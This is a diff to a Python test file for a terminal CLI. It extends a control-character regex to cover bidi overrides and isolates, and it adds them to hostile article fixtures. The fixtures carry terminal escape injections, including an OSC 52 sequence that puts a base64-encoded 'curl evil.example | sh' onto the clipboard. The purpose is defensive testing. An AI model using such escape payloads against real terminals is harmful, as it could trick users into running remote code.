@@ -10,14 +10,16 @@ from click.testing import CliRunner, Result
 
 from tui.cli import main
 
-# What a terminal may act on: C0 but newline and tab, DEL, C1, and lone surrogates.
-RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
+# What a terminal may act on: C0 but newline and tab, DEL, C1, bidi embeddings, overrides
+# and isolates (they reorder the rest of a line), and lone surrogates.
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 # An article whose every field tries to take over the terminal: OSC 52 sets the clipboard,
-# OSC 0 retitles the window, CSI 2J clears the screen, 0x9b is the one-byte CSI, BEL rings.
+# OSC 0 retitles the window, CSI 2J clears the screen, 0x9b is the one-byte CSI, BEL rings,
+# U+202E shows the rest of a line reversed and U+2067 opens an isolate never closed.
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
-HOSTILE_TITLE = f"Harbour{OSC52} cranes\x1b]0;pwned\x07 return\x1b[2J\x9b31m"
+HOSTILE_TITLE = f"Harbour{OSC52} cranes\x1b]0;pwned\x07 return\u202e\x1b[2J\x9b31m"
 HOSTILE_BODY = (
-    "The harbour's container cranes\x1b[2J are back at work after a winter refit, the port "
+    "The harbour's container cranes\x1b[2J are \u2067back at work after a winter refit, the port "
     f"authority said on Friday.{OSC52}\r\n\r\nThe third crane\x9b1;1H is due back in April; "
     "until then larger ships will be unloaded on the night shift.\x07\x08"
 )
